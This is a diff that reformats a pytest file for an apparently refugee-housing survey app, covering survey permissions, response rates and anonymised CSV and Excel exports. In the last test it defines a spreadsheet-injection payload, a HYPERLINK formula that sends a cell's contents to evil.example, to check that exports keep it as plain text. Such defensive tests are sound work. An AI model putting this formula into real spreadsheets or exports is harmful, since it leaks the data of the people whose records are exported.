@@ -30,8 +30,15 @@ def at(year: int, month: int, day: int, hour: int = 0, minute: int = 0):
 
 ARRIVED = datetime(2027, 3, 10, 12, 0, tzinfo=BERLIN)
 
-ANSWERS = {"good_decision": "5", "still_fits": "4", "belonging": "3", "german_level": "a2",
-           "language_course": "yes", "still_there": "yes", "comment": "Call me: Olena"}  # fmt: skip
+ANSWERS = {
+    "good_decision": "5",
+    "still_fits": "4",
+    "belonging": "3",
+    "german_level": "a2",
+    "language_course": "yes",
+    "still_there": "yes",
+    "comment": "Call me: Olena",
+}
 
 
 def test_add_months_keeps_the_day_or_the_end_of_the_month():
@@ -157,14 +164,16 @@ def test_nobody_else_answers_a_households_survey(sent_survey, coordinator, staff
 def test_a_survey_is_answered_once(sent_survey, refugee):
     surveys.survey_answer(survey=sent_survey, by=refugee, answers=ANSWERS, language="uk")
     with pytest.raises(ValidationError, match="answered already"):
-        surveys.survey_answer(survey=sent_survey, by=refugee, answers={"good_decision": "1"},
-                              language="uk")  # fmt: skip
+        surveys.survey_answer(
+            survey=sent_survey, by=refugee, answers={"good_decision": "1"}, language="uk"
+        )
     sent_survey.refresh_from_db()
     assert sent_survey.answers["good_decision"] == "5"
 
 
-def test_a_municipal_survey_is_answered_by_its_staff_only(eval_round, coordinator, staff,
-                                                          other_staff):  # fmt: skip
+def test_a_municipal_survey_is_answered_by_its_staff_only(
+    eval_round, coordinator, staff, other_staff
+):
     surveys.survey_send_now(round=eval_round, wave=Wave.ROUND_END, by=coordinator)
     kiel = Survey.objects.get(municipality=eval_round.kiel)
     with pytest.raises(PermissionDenied):
@@ -173,8 +182,9 @@ def test_a_municipal_survey_is_answered_by_its_staff_only(eval_round, coordinato
     assert Survey.objects.get(pk=kiel.pk).answers == {"proposal_fit": "4"}
 
 
-def test_visible_to_scopes_surveys_by_role(sent_survey, eval_round, coordinator, staff,
-                                           other_staff, caseworker, refugee):  # fmt: skip
+def test_visible_to_scopes_surveys_by_role(
+    sent_survey, eval_round, coordinator, staff, other_staff, caseworker, refugee
+):
     surveys.survey_send_now(round=eval_round, wave=Wave.ROUND_END, by=coordinator)
     kiel = Survey.objects.get(kind="municipality", municipality=eval_round.kiel)
     troisdorf = Survey.objects.get(kind="municipality", municipality=eval_round.troisdorf)
@@ -189,8 +199,11 @@ def test_results_and_response_rates_per_wave(sent_survey, refugee, eval_round, c
     surveys.survey_answer(survey=sent_survey, by=refugee, answers=ANSWERS, language="uk")
     rates = {r["wave"]: r for r in surveys.response_rates(eval_round)}
     assert (rates[1]["total"], rates[1]["sent"], rates[1]["answered"], rates[1]["rate"]) == (
-        1, 1, 1, 1.0,
-    )  # fmt: skip
+        1,
+        1,
+        1,
+        1.0,
+    )
     assert rates[6]["rate"] is None
     assert rates[6]["total"] == 1
     results = {r["question"].code: r for r in surveys.survey_results(eval_round, "household")}
@@ -201,8 +214,9 @@ def test_results_and_response_rates_per_wave(sent_survey, refugee, eval_round, c
 
 def test_the_export_is_anonymised(sent_survey, refugee, eval_round, coordinator):
     surveys.survey_answer(survey=sent_survey, by=refugee, answers=ANSWERS, language="uk")
-    content, content_type = export.survey_export(round=eval_round, kind=SurveyKind.HOUSEHOLD,
-                                                 fmt="csv", by=coordinator)  # fmt: skip
+    content, content_type = export.survey_export(
+        round=eval_round, kind=SurveyKind.HOUSEHOLD, fmt="csv", by=coordinator
+    )
     text = content.decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text), delimiter=";"))
     assert content_type.startswith("text/csv")
@@ -224,8 +238,9 @@ def test_the_export_is_anonymised(sent_survey, refugee, eval_round, coordinator)
 
 def test_the_excel_export_holds_the_same_rows(sent_survey, refugee, eval_round, coordinator):
     surveys.survey_answer(survey=sent_survey, by=refugee, answers=ANSWERS, language="uk")
-    content, _type = export.survey_export(round=eval_round, kind=SurveyKind.HOUSEHOLD,
-                                          fmt="xlsx", by=coordinator)  # fmt: skip
+    content, _type = export.survey_export(
+        round=eval_round, kind=SurveyKind.HOUSEHOLD, fmt="xlsx", by=coordinator
+    )
     sheet = load_workbook(io.BytesIO(content)).active
     rows = list(sheet.values)
     assert len(rows) == 2
@@ -236,11 +251,15 @@ def test_the_excel_export_holds_the_same_rows(sent_survey, refugee, eval_round, 
 def test_a_formula_typed_into_a_survey_answer_stays_text(eval_round, coordinator, fmt):
     attack = '=HYPERLINK("http://evil.example/steal?d="&A2,"x")'
     Survey.objects.create(
-        round=eval_round, kind=SurveyKind.MUNICIPALITY, wave=Wave.ROUND_END,
-        municipality=eval_round.kiel, due_on=date(2026, 1, 1), 
+        round=eval_round,
+        kind=SurveyKind.MUNICIPALITY,
+        wave=Wave.ROUND_END,
+        municipality=eval_round.kiel,
+        due_on=date(2026, 1, 1),
         answered_at=datetime(2026, 1, 2, tzinfo=ZoneInfo("UTC")),
-        answers={"workshop_topics": attack}, language="de",
-    )  # fmt: skip
+        answers={"workshop_topics": attack},
+        language="de",
+    )
     content, _type = export.survey_export(
         round=eval_round, kind=SurveyKind.MUNICIPALITY, fmt=fmt, by=coordinator
     )
